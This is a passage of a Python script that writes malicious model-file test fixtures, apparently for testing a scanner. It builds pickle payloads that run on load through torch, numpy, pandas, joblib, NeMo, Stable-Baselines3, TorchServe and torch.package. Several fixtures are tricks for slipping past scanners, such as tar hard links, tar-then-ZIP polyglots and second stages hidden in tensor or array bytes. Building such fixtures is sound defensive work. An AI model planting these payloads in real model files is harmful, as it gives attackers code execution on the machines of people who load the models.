         "derived: torch.utils.data.datapipes.datapipe._DataPipeSerializationWrapper.__setstate__ -> pickle.loads",
         "BUILD on a torch datapipe serialization wrapper: its __setstate__ pickle.loads the bytes it is given, a nested pickle that runs the payload")
def _(t):
    inner = proto(2) + system_call(t) + STOP
    wrapper = global_("torch.utils.data.datapipes.datapipe", "_IterDataPipeSerializationWrapper")
    state = MARK + binbytes(inner) + NEWFALSE + TUPLE
    return proto(2) + wrapper + EMPTY_TUPLE + NEWOBJ + state + BUILD + STOP


@fixture("numpy-read-array-nested", PL, "derived: numpy.lib._format_impl.read_array -> pickle.load",
         "numpy.lib.format.read_array(BytesIO(npy), True): the .npy reader under np.load, with allow_pickle passed positionally; the payload is an object array's pickle")
def _(t):
    inner = npy_object(proto(2) + system_call(t) + STOP)
    bio = call(global_("io", "BytesIO"), binbytes(inner))
    return proto(3) + call(global_("numpy.lib.format", "read_array"), bio, NEWTRUE) + STOP


# ----- TorchScript archives -------------------------------------------------
# Written by torch.jit.save itself (the code is the attack: torch.jit.load,
# and torch.load(weights_only=False) on a TorchScript archive, compile the
# code files and run __setstate__ while loading). The script defines the
# module from source text so that torch.jit.script can read it; nothing is
# loaded here.

TORCHSCRIPT_MODULE = """
import torch
from typing import Tuple


class Payload(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.w = torch.zeros(1)

    def forward(self, x):
        return x + self.w

    @torch.jit.export
    def __getstate__(self) -> Tuple[torch.Tensor, bool]:
        return (self.w, self.training)

    @torch.jit.export
    def __setstate__(self, state: Tuple[torch.Tensor, bool]):
        self.training = state[1]
        self.w = {call}
"""


def torchscript(call):
    """A TorchScript archive whose __setstate__ sets its weight to `call`."""
    try:
        import linecache
        import torch
    except ImportError as e:
        raise SkipFixture(f"torch is needed for TorchScript archives: {e}")
    # torch.jit.script reads the class source through linecache and records
    # its file name in the archive's debug info: a fixed name (no temporary
    # directory) keeps the archive the same on every run.
    filename = "airlock_torchscript_payload.py"
    source = TORCHSCRIPT_MODULE.format(call=call)
    linecache.cache[filename] = (len(source), None, source.splitlines(True), filename)
    namespace = {"__name__": "airlock_torchscript_payload"}
    exec(compile(source, filename, "exec"), namespace)
    import warnings
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        scripted = torch.jit.script(namespace["Payload"]())
    buf = io.BytesIO()
    torch.jit.save(scripted, buf)
    return buf.getvalue()


@fixture("torchscript-setstate-save", TL, "https://github.com/advisories/GHSA-53q9-r3pm-6pq6 (CVE-2025-32434: TorchScript through torch.load)",
         "TorchScript archive whose __setstate__ calls torch.save (aten::save): torch.load hands it to torch.jit.load, which writes a file while loading",
         filename="torchscript-setstate-save.pt")
def _(t):
    return torchscript(f'state[0]; torch.save(state[0], "{marker(t)}")')


@fixture("torchscript-from-file-model-bin", TL, "https://github.com/advisories/GHSA-53q9-r3pm-6pq6 (CVE-2025-32434: TorchScript through torch.load)",
         "TorchScript archive named pytorch_model.bin whose __setstate__ maps a file with torch.from_file(shared=True), creating it: aten::from_file, the JIT's other file operator",
         filename="pytorch_model.bin")
def _(t):
    return torchscript(f'torch.from_file("{marker(t)}", True, 1)')


# ----- F. PyTorch-family containers: the payload where their loader unpickles -----


def nemo_tar(weights, config=b"target: nemo.collections.asr.models.EncDecCTCModel\n"):
    """A .nemo as NeMo's SaveRestoreConnector writes it: an uncompressed tar
    whose members are named "./NAME"."""
    return tar_bytes([("./model_config.yaml", config), ("./model_weights.ckpt", weights)])


def sb3_zip(tech):
    """A Stable-Baselines3 save whose `data` JSON carries the payload as the
    base64 cloudpickle of its policy class."""
    import base64
    payload = proto(2) + system_call(tech) + STOP
    data = json.dumps({"policy_class": {":type:": "<class 'abc.ABCMeta'>",
                                        ":serialized:": base64.b64encode(payload).decode()},
                       "n_envs": 1}).encode()
    return build_zip([dict(name="data", data=data),
                      dict(name="policy.pth", data=torch_zip(pickle.dumps({}, protocol=2), prefix="policy")),
                      dict(name="_stable_baselines3_version", data=b"2.9.2")])


def mar_zip(tech):
    """A TorchServe .mar whose serialized model file carries the payload."""
    manifest = json.dumps({"createdOn": "01/01/2026 00:00:00", "runtime": "python",
                           "model": {"modelName": "tiny", "serializedFile": "weights.pt",
                                     "handler": "image_classifier", "modelVersion": "1.0"},
                           "archiverVersion": "0.12.0"}).encode()
    weights = torch_zip(side_effect_then(tech, {}))
    return build_zip([dict(name="weights.pt", data=weights),
                      dict(name="MAR-INF/MANIFEST.json", data=manifest)])


FAMILY = "https://github.com/pytorch/pytorch/security/policy (models are programs)"


@fixture("pandas-zip", "pandas.read_pickle", FAMILY,
         "pandas.read_pickle on a .zip: the single member is unpickled", filename="pandas-zip.pkl.zip")
def _(t):
    return build_zip([dict(name="frame.pkl", data=proto(2) + system_call(t) + STOP)])


@fixture("pandas-tar-gz", "pandas.read_pickle", FAMILY,
         "pandas.read_pickle on a .tar.gz: the single member of the tar is unpickled",
         filename="pandas-tar-gz.pkl.tar.gz")
def _(t):
    return gzip.compress(tar_bytes([("frame.pkl", proto(2) + system_call(t) + STOP)]), mtime=0)


@fixture("nemo-weights", "nemo.restore-weights", FAMILY,
         "a .nemo whose model_weights.ckpt runs the payload when restore_from torch.loads it",
         filename="nemo-weights.nemo")
def _(t):
    return nemo_tar(torch_zip(side_effect_then(t, {})))


@fixture("sb3-data", "sb3.load_from_zip_file", FAMILY,
         "a Stable-Baselines3 zip whose data JSON holds a cloudpickle payload (:serialized:)",
         filename="sb3-data.zip")
def _(t):
    return sb3_zip(t)


@fixture("torchserve-weights", "torchserve.serialized-file", FAMILY,
         "a TorchServe .mar whose serialized model file runs the payload when the handler torch.loads it",
         filename="torchserve-weights.mar")
def _(t):
    return mar_zip(t)


@fixture("torch-package-import", "torch.package", FAMILY,
         "a torch.package whose packaged module runs the payload when load_pickle imports it",
         filename="torch-package-import.pt")
def _(t):
    p = "torch-package-import"
    module = f"import os\nos.system({sh(t)!r})\n\n\nclass Thing:\n    pass\n".encode()
    return build_zip([dict(name=f"{p}/model/model.pkl", data=proto(2) + global_("evil", "Thing") + b")\x81" + STOP),
                      dict(name=f"{p}/evil.py", data=module),
                      dict(name=f"{p}/.data/extern_modules", data=b"os\n"),
                      dict(name=f"{p}/.data/version", data=b"6\n"),
                      dict(name=f"{p}/byteorder", data=b"little")])


@fixture("nemo-hardlink", "nemo.restore-weights", FAMILY,
         "a .nemo whose model_weights.ckpt is a hard link to a member whose name is then rebound (a symbolic link, then a benign file written through it): extraction leaves the payload in model_weights.ckpt, readers taking the last member of each name see only the benign one",
         filename="nemo-hardlink.nemo")
def _(t):
    benign = torch_zip(pickle.dumps({}, protocol=2))
    return tar_bytes([("./model_config.yaml", b"target: nemo.collections.asr.models.EncDecCTCModel\n"),
                      ("./payload.bin", torch_zip(side_effect_then(t, {}))),
                      ("./model_weights.ckpt", tarfile.LNKTYPE, "./payload.bin"),
                      ("./payload.bin", tarfile.SYMTYPE, "safe.bin"),
                      ("./payload.bin", benign)])


@fixture("tar-then-zip", "pandas.read_pickle", FAMILY,
         "an empty tar archive (its end-of-archive blocks) followed by a ZIP: tar readers see nothing, zipfile finds the ZIP from its end and pandas.read_pickle unpickles its member",
         filename="tar-then-zip.pkl.zip")
def _(t):
    return tar_bytes([]) + build_zip([dict(name="frame.pkl", data=proto(2) + system_call(t) + STOP)])


@fixture("joblib-structured-object", JL, "generic (structured dtypes hold objects through their fields)",
         "joblib dump of a structured array whose one field has object dtype: joblib.load unpickles the array data, a nested pickle",
         filename="joblib-structured-object.joblib")
def _(t):
    inner = call(global_("numpy", "dtype"), ustr("O8"), NEWFALSE, NEWTRUE)
    fields = EMPTY_DICT + ustr("x") + MARK + inner + binint(0) + TUPLE + SETITEM
    dtype = (call(global_("numpy", "dtype"), ustr("V8"), NEWFALSE, NEWTRUE)
             + MARK + binint(3) + ustr("|") + NONE + MARK + ustr("x") + TUPLE + fields
             + binint(8) + binint(1) + binint(27) + TUPLE + BUILD)
    state = (EMPTY_DICT + MARK
             + ustr("subclass") + global_("numpy", "ndarray")
             + ustr("shape") + MARK + binint(1) + TUPLE
             + ustr("order") + ustr("C")
             + ustr("dtype") + dtype
             + ustr("allow_mmap") + NEWFALSE + SETITEMS)
    wrapper = global_("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ + state + BUILD
    return proto(2) + wrapper + side_effect_then(t, ["x"]) + STOP


@fixture("torch-staged-storage", "torch.load-staged", "generic (a second-stage payload hidden in tensor bytes)",
         "a torch checkpoint whose uint8 tensor's bytes are a pickle program: torch.load(weights_only=True) returns the tensor, the second stage unpickles its bytes",
         filename="torch-staged-storage.pt")
def _(t):
    payload = proto(2) + system_call(t) + STOP
    n = len(payload)
    # BINUNICODE: torch's weights-only unpickler refuses SHORT_BINUNICODE.
    pid = (MARK + binunicode("storage") + global_("torch", "ByteStorage") + binunicode("0")
           + binunicode("cpu") + binint(n) + TUPLE)
    data_pkl = (proto(2) + global_("torch._utils", "_rebuild_tensor_v2") + MARK
                + pid + b"Q" + binint(0) + MARK + binint(n) + TUPLE + MARK + binint(1) + TUPLE
                + NEWFALSE + call(global_("collections", "OrderedDict")) + TUPLE + REDUCE + STOP)
    return build_zip([dict(name="archive/data.pkl", data=data_pkl),
                      dict(name="archive/data/0", data=payload),
                      dict(name="archive/byteorder", data=b"little"),
                      dict(name="archive/version", data=b"3\n")])


def npy_file(header, body):
    """A version 1.0 `.npy` file: magic, version, header length, `header` padded with spaces
    to a 64-byte boundary and ended by a newline (as numpy writes it), then `body`."""
    text = header.encode("latin-1")
    pad = (-(10 + len(text) + 1)) % 64
    text = text + b" " * pad + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text + body


@fixture("npy-staged-array-data", "numpy.load-staged", "generic (a second-stage payload hidden in array bytes)",
         "a .npy of uint8 whose data is a pickle program: numpy.load(allow_pickle=False) returns the array, "
         "the second stage unpickles its bytes",
         filename="npy-staged-array-data.npy")
def _(t):
    payload = proto(2) + system_call(t) + STOP
    return npy_file(f"{{'descr': '|u1', 'fortran_order': False, 'shape': ({len(payload)},), }}", payload)


@fixture("npy-staged-refused-header", "npy.read-body",
         "https://github.com/Lab700xOrg/aisbom (tests/test_pickle_variants.py, an object .npy header cut short)",
         "a .npy whose header lacks its closing brace, then a pickle program: numpy.load refuses the header, "
         "a reader that skips the declared header length and unpickles the rest (as a lenient scanner does) runs it",
         filename="npy-staged-refused-header.npy")
def _(t):
    return npy_file("{'descr': '|O', 'fortran_order': False, 'shape': (1,)", proto(2) + system_call(t) + STOP)


# ---------------------------------------------------------------------------


def main(argv):
    if len(argv) == 3 and argv[1] == "--check":
        return fx.check_dir(write, argv[2], ignore=("proof.json",))
    if len(argv) != 2:
        sys.stderr.write(__doc__)
        return 2
    return write(argv[1])


def write(out_dir):
    os.makedirs(out_dir, exist_ok=True)
    manifest = []
    seen = set()
    for f in FIXTURES:
        tech = f["technique"]
        assert tech not in seen, tech
        seen.add(tech)
        try:
            data = f["build"](tech)
        except SkipFixture as e:
            print(f"skip {tech}: {e}", file=sys.stderr)
            continue
        name = f["filename"] or f"{tech}.pkl"
        with open(os.path.join(out_dir, name), "wb") as fh:
            fh.write(data)
        manifest.append({
            "file": name,
            "technique": tech,
            "description": f["description"],
            "reference": f["reference"],
            "loader": f["loader"],
            "marker": marker(tech),
        })
    with open(os.path.join(out_dir, "manifest.json"), "w") as fh:
        json.dump(manifest, fh, indent=1)
        fh.write("\n")
    print(f"wrote {len(manifest)} fixtures to {out_dir}")
    return 0


if __name__ == "__main__":
    # Set iteration order (sets and frozensets pickled, dict keys built from
    # sets) follows str hashing: one seed, so every run writes the same bytes.
    fx.fixed_hash_seed(0)
    sys.exit(main(sys.argv))
